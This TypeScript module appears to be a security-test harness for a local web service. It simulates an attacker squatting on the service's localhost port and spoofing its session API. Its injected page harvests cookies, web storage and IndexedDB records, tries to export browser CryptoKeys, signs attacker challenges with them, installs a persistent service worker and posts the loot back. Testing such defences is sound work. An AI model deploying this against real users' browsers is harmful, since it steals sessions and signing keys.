import http from 'node:http';

/** What a web page of a squatter obtained, and what was sent to its server. */
export interface Loot {
  /** Every text that could be a secret: from storages, cookies, caches, requests. */
  texts: string[];
  /** Signatures that the key in the browser made for it. */
  proofs: { id: string; challenge: string; signature: string }[];
  /** Whether it got the key itself. */
  exported: boolean;
  /** How many keys it found. */
  keys: number;
}

export interface Squatter {
  /** Resolves when its page has finished. */
  loot: Promise<Loot>;
  /** Bodies and headers that already open pages sent. */
  received: string[];
  stop(): Promise<void>;
}

/** Binds the port of a service that is down, and serves its own page there. `challenges`: to be signed by visiting pages. */
export async function squat(port: number, challenges: string[]): Promise<Squatter> {
  const received: string[] = [];
  const { promise: loot, resolve } = Promise.withResolvers<Loot>();
  const server = http.createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    const json = (value: unknown) => {
      response.setHeader('Content-Type', 'application/json');
      response.end(JSON.stringify(value));
    };
    if (request.url === '/loot') {
      resolve(JSON.parse(body));
      return json({});
    }
    received.push(...Object.values(request.headers).map(String), body);
    // Pages of the service that are still open trust it.
    if (request.url === '/api/sessions/challenge') return json({ challenge: challenges[0], expires_in: 60 });
    if (request.url === '/api/sessions') return json({ token: 'given by the squatter', expires_in: 300, session: {} });
    if (request.url === '/worker.js') {
      response.setHeader('Content-Type', 'text/javascript');
      return response.end(worker);
    }
    response.setHeader('Content-Type', 'text/html');
    response.end(`<!doctype html><title>squatted</title><script type="module">${script(challenges)}</script>`);
  });
  server.on('upgrade', (request, socket) => {
    received.push(...Object.values(request.headers).map(String));
    socket.destroy();
  });
  await new Promise<void>((done, failed) => {
    server.once('error', failed);
    server.listen(port, '127.0.0.1', done);
  });
  return {
    loot,
    received,
    async stop() {
      server.closeAllConnections();
      await new Promise((done) => server.close(done));
    },
  };
}

/** Answers everything with its own page from then on, also after the port changes hands. */
const worker = `addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => { if (event.request.mode === 'navigate') event.respondWith(new Response(
  '<!doctype html><title>squatted</title>', { headers: { 'Content-Type': 'text/html' } })); });`;

const script = (challenges: string[]) => `
const texts = [document.cookie, ...Object.entries(localStorage).flat(), ...Object.entries(sessionStorage).flat()];
const proofs = [];
let exported = false;
let keys = 0;
const wait = (request) => new Promise((done, failed) => { request.onsuccess = () => done(request.result); request.onerror = failed; });
for (const { name } of await indexedDB.databases()) {
  const database = await wait(indexedDB.open(name));
  for (const store of database.objectStoreNames) {
    for (const record of await wait(database.transaction(store).objectStore(store).getAll())) {
      texts.push(JSON.stringify(record), ...Object.values(record).filter((value) => typeof value === 'string'));
      for (const key of Object.values(record).filter((value) => value instanceof CryptoKey)) {
        keys++;
        for (const format of ['jwk', 'pkcs8', 'raw']) {
          try { await crypto.subtle.exportKey(format, key); exported = true; } catch {}
        }
        for (const challenge of ${JSON.stringify(challenges)}) {
          const text = new TextEncoder().encode('hostler-browser-session-2\\n' + location.origin + '\\n' + record.id + '\\n' + challenge);
          const signature = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, key, text);
          proofs.push({ id: record.id, challenge, signature: btoa(String.fromCharCode(...new Uint8Array(signature)))
            .replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, '') });
        }
      }
    }
  }
}
for (const name of await caches.keys()) texts.push(name);
await navigator.serviceWorker.register('/worker.js');
await navigator.serviceWorker.ready;
await fetch('/loot', { method: 'POST', body: JSON.stringify({ texts, proofs, exported, keys }) });
document.title = 'squatted and done';
`;
